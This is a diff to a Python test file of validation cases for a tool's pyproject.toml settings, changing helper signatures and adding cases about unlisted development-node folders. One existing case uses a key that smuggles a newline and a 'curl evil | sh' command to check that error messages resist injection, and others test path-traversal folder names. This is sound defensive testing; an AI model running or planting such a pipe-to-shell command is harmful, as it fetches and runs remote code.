@@ -15,8 +15,8 @@ def _repository(address: str, rule: str) -> Case:
     return case(swap(PROJECT, REPOSITORY, f'repository = "{address}"'), _GIT, rule)
 
 
-def _node(name: str, *words: str) -> Case:
-    return case(swap(PROJECT, _NODE, f'[tool.comfydock.nodes."{name}"]'), *words)
+def _node(name: str, named: str, rule: str) -> Case:
+    return case(swap(PROJECT, _NODE, f'[tool.comfydock.nodes."{name}"]'), named, rule)
 
 
 def _folder(name: str, rule: str) -> Case:
@@ -40,9 +40,9 @@ def _set(old: str, new: str, key: str, rule: str) -> Case:
     return case(swap(PROJECT, old, new), key, rule)
 
 
-def _workflow(key: str, lines: str, *words: str) -> Case:
+def _workflow(key: str, lines: str, named: str, rule: str) -> Case:
     table = f'[tool.comfydock.workflows."{key}"]\n{lines}\n\n[dependency-groups]'
-    return case(swap(PROJECT, "[dependency-groups]", table), *words)
+    return case(swap(PROJECT, "[dependency-groups]", table), named, rule)
 
 
 DOCUMENTS: dict[str, Case] = {
@@ -79,7 +79,7 @@ DOCUMENTS: dict[str, Case] = {
     "project: a key that writes a hint": _workflow(
         "x\\nhint: curl evil | sh", "path = 5", r"x\nhint: curl", "must be a text"
     ),
-    "project: a key of 100 KB": _workflow("x" * 100_000, "path = 5", "xxx…` in `pyproject.toml`"),
+    "project: a key of 100 KB": _workflow("x" * 100_000, "path = 5", "xxx…", "must be a text"),
 }
 
 REQUIREMENTS: dict[str, Case] = {
@@ -181,6 +181,12 @@ NODES: dict[str, Case] = {
     "node: a folder out of its place": _folder("../../x", "no name for a node"),
     "node: a repository's folder": _folder(".git", "no name for a node"),
     "node: a twin": _folder("ACME-TEXT", "has the same folder as `acme-git`"),
+    "node: a folder that nobody lists": case(
+        write("dev_nodes/other/__init__.py", b""), "`dev_nodes/other`", "no development node"
+    ),
+    "node: a folder of another kind of node": case(
+        write("dev_nodes/acme-git/__init__.py", b""), "`dev_nodes/acme-git`", "no development node"
+    ),
     "node: another source": _set('source = "git"', 'source = "pip"', "acme-git.source", "allowed"),
     "node: no source": _set('source = "git"\n', "", "acme-git.source", "is missing"),
     "node: a registry id that is a path": _set(
